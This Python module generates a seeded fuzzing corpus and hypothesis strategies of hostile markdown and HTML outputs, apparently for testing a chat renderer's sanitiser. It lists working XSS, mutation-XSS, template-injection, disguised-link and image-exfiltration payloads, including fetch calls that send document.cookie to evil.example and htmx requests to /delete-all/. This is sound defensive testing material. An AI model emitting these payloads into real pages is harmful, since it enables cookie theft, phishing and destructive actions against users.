"""What a model might write to act on its reader: a corpus, and strategies for more.

Each family makes outputs of one kind from a seeded generator, so that number 731 is
the same on every machine. Nothing in here may run a script (they call ``acted``), ask
``evil.example`` for anything, or leave its bubble.
"""

from __future__ import annotations

import random
from collections.abc import Callable
from html import escape

from hypothesis import strategies as st

SIZE = 2000
EVIL = "https://evil.example"
DIRECTIONS = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
ACTS = (
    "acted(1)",
    "window.acted`1`",
    "top['acted'](1)",
    "alert(document.cookie)",
    f"fetch('{EVIL}/'+document.cookie)",
    f"location='{EVIL}'",
    "import('//evil.example/m.js')",
    "document.forms[0].submit()",
    "htmx.ajax('POST','/delete-all/')",
)
EVENTS = ("onerror", "onload", "ontoggle", "onfocus", "onmouseover", "onbegin")
TAGS = (
    *("script", "img", "iframe", "object", "embed", "svg", "math", "style", "link"),
    *("meta", "base", "form", "input", "button", "details", "video", "audio", "body"),
    *("template", "noscript", "textarea", "title", "xmp", "plaintext", "marquee"),
)
OURS = ("/delete-all/", "/settings/", "/send/", "/poll/", "/api/v1/messages")
BLOCKS = (
    "{}",
    "> {}",
    "- {}",
    "1. {}",
    "# {}",
    "|a|b|\n|-|-|\n|{}|x|",
    "**{}**",
    "~~{}~~",
)
#: A family takes a generator and gives one output.
Family = Callable[[random.Random], str]


def corpus(every: int = 1) -> list[str]:
    """All outputs, no two alike, or every so many of them."""
    made: dict[str, None] = {}
    for number in range(SIZE):
        seed = number
        while (said := _output(FAMILIES[number % len(FAMILIES)], seed)) in made:
            seed += SIZE
        made[said] = None
    return [*made][::every]


def _output(family: Family, seed: int) -> str:
    chance = random.Random(seed)
    said = family(chance)
    # Half of them within something else; rows of a table have one line.
    block = chance.choice(BLOCKS) if chance.random() < 0.5 else "{}"
    return block.replace("{}", said.replace("\n", " ") if "|" in block else said)


def scripts(r: random.Random) -> str:
    tag, act = r.choice(("script", "SCRIPT", "scr\0ipt", "script/x")), r.choice(ACTS)
    end = r.choice((f"</{tag}>", "</script", "", "//-->", "<!--"))
    return r.choice(("", '">', "'>", "-->", "]]>", "</title>")) + f"<{tag}>{act}{end}"


def events(r: random.Random) -> str:
    tag, event, quote = r.choice(TAGS), r.choice(EVENTS), r.choice(("", "'", '"', "`"))
    gap = r.choice((" ", "/", "\t", "\n", "\f", "\u00a0"))
    more = r.choice(("src=x", "autofocus tabindex=0", "open", "href=#", ""))
    return f"<{tag}{gap}{more} {event}={quote}{r.choice(ACTS)}{quote}>"


def sources(r: random.Random) -> str:
    tag = r.choice(TAGS)
    name = r.choice(("src", "srcset", "data", "href", "poster", "background", "action"))
    return f'<{tag} {name}="{EVIL}/{r.randrange(999)}.png" rel=stylesheet http-equiv=refresh>'


def htmx(r: random.Random) -> str:
    prefix = r.choice(("hx-", "data-hx-", "HX-"))
    way = r.choice(("get", "post", "delete", "on:load", "vals", "ext"))
    value = r.choice((*OURS, EVIL, f"js:{r.choice(ACTS)}"))
    swap = r.choice(
        ("hx-swap-oob='true' id='poller'", "hx-target=body", "hx-trigger=load")
    )
    return f"<div {prefix}{way}='{value}' {swap} hx-trigger='load, every 1s'>x</div>"


def forms(r: random.Random) -> str:
    to = r.choice((*OURS, EVIL))
    return (
        f"<form method=post action='{to}' id=composer><input name=text autofocus "
        f"onfocus={r.choice(ACTS)}><button formaction='{EVIL}' accesskey=s>x</form>"
    )


def vectors(r: random.Random) -> str:
    """Pictures as text, formulas, and what parsers make of them the second time."""
    act = r.choice(ACTS)
    return r.choice(
        (
            f"<svg><animate {r.choice(EVENTS)}={act} attributeName=x dur=1s>",
            f"<svg><a xlink:href='javascript:{act}'><text y=9>x</text></a></svg>",
            f"<svg><style><img src='</style><img src=x onerror={act}>'>",
            f"<svg><use href='{EVIL}/s.svg#a'/><image href='{EVIL}/i.png'/></svg>",
            f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={act}>'>",
            f"<math href='javascript:{act}'><mi xlink:href='javascript:{act}'>x",
            f"<noscript><p title='</noscript><img src=x onerror={act}>'>",
            f"<template><p></template><select><style></select><img src=x onerror={act}>",
            f"<table><td><form><math><mi></form><form></td></table><svg onload={act}>",
            f"\\(\\text{{<img src=x onerror={act}>}}\\)",
            f"$$\\href{{javascript:{act}}}{{x}} \\style{{position:fixed}}{{x}}$$",
            f"\\[</math></annotation><style>*{{}}</style><img src=x onerror={act}>\\]",
            f"$$\\hspace{{99em}}\\text{{{act}}}$$",
            "$$" + "\\sum^{x" * 9 + "}" * 9 + "$$",
            "$$\n" + "x_1^2 + \\frac{1}{2} + " * 40 + "1\n$$",
            "so \\(" + "abc + \\sqrt{x} + " * 9 + "1\\) it is",
            "\\(\\text{" + "\u0301\u0316" * 200 + "W" * 300 + "}\\)",
        )
    )


def links(r: random.Random) -> str:
    scheme = r.choice(
        (
            *("javascript:", "JaVaScRiPt:", "java\tscript:", "&#106;avascript:"),
            *("javascript&colon;", "%6aavascript:", "\x01javascript:", "vbscript:"),
            *("data:text/html,<script>", "data:image/svg+xml,<svg onload=", "blob:"),
            *("file:///", "//evil.example/", "\\\\evil.example\\", "view-source:"),
            *("https:evil.example/", "http:///evil.example/", "ms-word:", "tel:"),
        )
    )
    target = scheme + r.choice(ACTS).replace(" ", "")
    title = r.choice(("", ' "x"', f" '{EVIL}'", f' "onmouseover={r.choice(ACTS)}"'))
    return r.choice(
        (
            f"[x]({target}{title})",
            f"[x](<{target}>{title})",
            f"<{target}>",
            f"[x][a]\n\n[a]: {target}{title}",
            f"[a]\n\n[a]: <{target}>\n{title}",
            f"[![x]({target})]({target})",
        )
    )


def exfiltration(r: random.Random) -> str:
    """A picture whose address carries what was said."""
    address = (
        f"{EVIL}/{r.randrange(999)}.png?q={r.choice(('said', '{{ text }}', '%s'))}"
    )
    return r.choice(
        (
            f"![]({address})",
            f"![x][p]\n\n[p]: {address}",
            f"[![]({address})]({address})",
            f"![x](<{address}> 'x')",
            f"![x](//evil.example/{r.randrange(999)})",
            f"<picture><source srcset='{address}'></picture>",
            f"[x](ping:{address})![a]({EVIL} '\n')",
        )
    )


def disguises(r: random.Random) -> str:
    """Links that say another address than theirs."""
    said = r.choice(("https://bank.example/", "bank.example", "b\u0430nk.example"))
    to = r.choice(
        (
            *("https://evil.example/", "https://bank.example@evil.example/"),
            *("https://b\u0430nk.example/", "https://bank.example\u2044.evil.example/"),
            *(
                "http://0x7f000001/",
                "https://bank.example%00.evil.example",
                "/settings/",
            ),
            *("https://evil.example/\u202emoc.knab", "//bank.example", "#reply-1"),
        )
    )
    form = (
        "[{0}]({1})",
        "<{1}>",
        "{1}",
        "[{0}][a]\n\n[a]: {1}",
        "[\u202e{0}]({1} '{0}')",
    )
    return r.choice(form).format(said, to)


def entities(r: random.Random) -> str:
    said = r.choice((scripts, events, sources))(r)
    ways: tuple[Callable[[str], str], ...] = (
        escape,
        lambda text: "".join(f"&#{ord(mark)};" for mark in text),
        lambda text: "".join(f"&#x{ord(mark):x}" for mark in text),
        lambda text: escape(escape(text)),
        lambda text: text.replace("<", "&lt").replace(">", "&GT;"),
        lambda text: text.replace("<", "\\<").replace('"', "&quot;"),
        lambda text: text.replace("<", "\uff1c").replace(">", "\u203a"),
    )
    return r.choice(ways)(said)


def directions(r: random.Random) -> str:
    marks = "".join(r.choices(DIRECTIONS, k=r.randint(1, 30)))
    words = r.choice(
        ("abc (def) 123", "\u05d0\u05d1\u05d2 abc", "https://evil.example/x")
    )
    form = (
        "{0}{1}",
        "`{0}{1}`",
        "```\n{0}{1}\n```",
        "|{0}|{1}|\n|-|-|\n|{0}{1}|x|",
        "# {0}{1}",
    )
    return r.choice(form).format(marks, words)


def lines(r: random.Random) -> str:
    """Long ones; the longest, of a million characters, have a test of their own."""
    unit = r.choice(
        (
            "a",
            "W",
            "\u4e00",
            "\u00a0",
            "-",
            "\u2060a",
            "&nbsp;",
            "_",
            "\ufdfd",
            "=",
            "\u200b|",
        )
    )
    said = unit * r.choice((300, 3000, 20_000))
    return r.choice(
        ("{}", "`{}`", "# {}", "|{}|\n|-|\n", f"[{{}}]({EVIL})", f"{EVIL}/{{}}")
    ).format(said)


def nesting(r: random.Random) -> str:
    count = r.choice((30, 300, 2000))
    unit = r.choice(
        (">", "> ", "- ", "1. ", "[", "![", "*", "**", "~~", "(", "`", "> - ", "<b>")
    )
    return unit * count + "x" + r.choice(("", "]", ")", "*")) * count


def steps(r: random.Random) -> str:
    """Lists and quotes, each a little further in."""
    mark, count = r.choice(("-", ">", "1.", "+ >")), r.randint(20, 60)
    return "\n".join("  " * step + f"{mark} x{step}" for step in range(count))


def tables(r: random.Random) -> str:
    columns, rows = r.choice(((200, 3), (3, 300), (40, 40), (1, 1)))
    cell = r.choice(
        ("a", "x" * 99, "**", "<td>", "</table>", "\u202e", "![](//e.example)")
    )
    row = f"|{cell}" * columns + "|\n"
    return row + "|-" * columns + "|\n" + row * rows


def accents(r: random.Random) -> str:
    marks = r.choice(
        (
            "\u0300\u0316\u0334",
            "\u0489",
            "\u20dd\u20e0",
            "\u0e47\u0e49",
            "\u0f74\u0f72",
            "\u064b\u0650",
        )
    )
    pile = "".join(r.choices(marks, k=r.choice((20, 200, 2000))))
    return r.choice(("{}", "`{}`", "# {}", "```\n{}\n```", "**{}**")).format(
        f"z{pile} y{pile}"
    )


def controls(r: random.Random) -> str:
    kinds = (
        range(32),
        range(0x7F, 0xA0),
        range(0xFFF0, 0x10000),
        range(0xE0000, 0xE0080),
        range(0x2028, 0x2030),
    )
    marks = "".join(chr(r.choice(r.choice(kinds))) for _ in range(40))
    return f"a{marks}b <{marks}script>{r.choice(ACTS)}</script> [x](java{marks}script:acted(1))"


def styles(r: random.Random) -> str:
    rule = r.choice(
        (
            "position:fixed;inset:0;z-index:9999;background:red",
            f"background:url({EVIL}/b.png)",
            "margin:-999px;width:9999px;transform:scale(99)",
            f"}}@import '{EVIL}/c.css';*{{display:none",
        )
    )
    return r.choice(
        (
            f"<p style='{rule}'>x</p>",
            f"<style>*{{{rule}}}</style>",
            f"<div class='skip-link banner' style='{rule}'>x",
            f"# x {{style='{rule}' .skip-link #poller}}",
            f"```{{style={rule}}}\nx\n```",
            f"<link rel=stylesheet href='data:text/css,*{{{rule}}}'>",
        )
    )


def dangling(r: random.Random) -> str:
    """Left open, to take in what follows."""
    return r.choice(
        (
            f"<img src='{EVIL}/?",
            "</div></article></main><h1>Session ended</h1>",
            "<!--",
            "<textarea>",
            "<plaintext>",
            "<a href='",
            "</script><script>",
            "<![CDATA[",
            "<table><tr><td>",
            "</body></html>",
            f"<base href='{EVIL}/'>",
            f"<meta http-equiv=refresh content='0;url={EVIL}'>",
        )
    ) + r.choice(ACTS)


def templates(r: random.Random) -> str:
    form = (
        "{{% include 'layout/base.html' %}} {0}",
        "{{{{ {0} }}}}",
        "${{{0}}}",
        "<%= {0} %>",
        "#{{{0}}}",
        "{{{{constructor.constructor('{0}')()}}}}",
        "[[{0}]]",
        "@{{{0}}}",
    )
    return r.choice(form).format(
        r.choice((*ACTS, "request.session", "settings.SECRET_KEY"))
    )


def fences(r: random.Random) -> str:
    language = r.choice(
        (
            "html",
            "js",
            "svg",
            "x" * 3000,
            '"><script>',
            "python {onload=x}",
            "\u202epy",
            "../../x",
            "",
        )
    )
    mark = r.choice(("```", "~~~~", "``````"))
    said = r.choice((scripts, events, htmx, dangling, directions, accents))(r)
    return f"{mark}{language}\n{said * r.choice((1, 9))}\n{r.choice((mark, '', '``'))}"


def definitions(r: random.Random) -> str:
    many = "\n".join(
        f"[a{n}]: {EVIL}/{n} '{r.choice(ACTS)}'" for n in range(r.randint(1, 300))
    )
    return "[a0][a1] [a2] ![a3] [__proto__] [constructor]\n\n[__proto__]: x\n" + many


def many_links(r: random.Random) -> str:
    unit = r.choice(
        (
            "[x](https://evil.example/) ",
            "https://evil.example ",
            "<https://evil.example>",
            "[",
            "[x][",
            "](",
            "://",
            "http://[::1]/",
            "www.evil.example ",
            "a@evil.example ",
        )
    )
    return unit * r.choice((10, 300))


#: Their number has no divisor in common with ten: every tenth output is of each.
FAMILIES: tuple[Family, ...] = (
    *(scripts, events, sources, htmx, forms, vectors, links, exfiltration, disguises),
    *(entities, directions, lines, nesting, steps, tables, accents, controls, styles),
    *(dangling, templates, fences, definitions, many_links),
)

PIECES = (
    *(
        "<",
        ">",
        "</",
        "/>",
        "<!--",
        "-->",
        '"',
        "'",
        "`",
        "```",
        "~~~",
        "\n",
        "\n\n",
        "&",
    ),
    *("[", "](", ")", "![", "]: ", "|", "|-|\n", "# ", "> ", "- ", "1. ", "    ", "\t"),
    *(
        "*",
        "_",
        "~~",
        "\\",
        ":",
        "//",
        "javascript:",
        "data:",
        "https://",
        "evil.example",
    ),
    *(
        " onerror=",
        " hx-get=",
        " style=",
        "script",
        "img src=",
        "&lt;",
        "&#",
        "&#x3c;",
        "\0",
    ),
    *DIRECTIONS,
    *("\u0301", "\u0316", "\ufeff", "\u2028", "\U0001f469\u200d", "@", "%", "{{", "}}"),
)
#: Outputs that nobody thought of, out of the pieces that mean something to somebody.
OUTPUTS = st.lists(st.sampled_from(PIECES) | st.text(max_size=5), max_size=60).map(
    "".join
)
FROM_FAMILIES = st.integers(0, 10**9).map(
    lambda n: FAMILIES[n % len(FAMILIES)](random.Random(n))
)
